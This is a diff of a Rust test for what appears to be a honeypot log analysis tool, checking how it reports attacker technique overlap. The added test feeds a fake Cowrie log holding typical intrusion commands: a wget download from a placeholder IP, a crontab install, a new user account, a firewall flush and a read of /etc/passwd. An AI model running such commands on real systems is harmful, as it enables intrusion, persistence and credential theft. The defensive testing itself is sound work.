@@ -68,7 +68,28 @@ fn a_key_joins_and_a_library_does_not() {
     // Merged later: the second address alone came first to the fleet.
     let identity = identities(&place)[0]["identity"].as_str().unwrap().to_owned();
     let overlap = place.say(&["overlap", "--identity", &identity]);
-    assert!(overlap.contains("not attribution") && overlap.contains("against:"), "{overlap}");
+    assert!(overlap.contains("not attribution") && overlap.contains("too little to compare"), "{overlap}");
+    assert!(!overlap.contains("against:"), "{overlap}");
+
+    // Some more than five techniques.
+    let much = Place::new();
+    let lines = [
+        "uname -a",
+        "ps aux",
+        "wget http://203.0.113.9/x",
+        "crontab /tmp/x",
+        "useradd -m bob",
+        "iptables -F",
+        "cat /etc/passwd",
+    ];
+    let log: String =
+        lines.iter().zip(1..).map(|(input, second)| typed(second, "192.0.2.1", "s", input)).collect();
+    much.say(&["ingest", &much.write("cowrie.json", log.as_bytes())]);
+    let overlap = much.say(&["overlap", "--attacker", "192.0.2.1", "--limit", "2"]);
+    assert!(
+        overlap.contains("who uses a sub-technique uses its parent") && overlap.contains("against:"),
+        "{overlap}"
+    );
 }
 
 #[test]
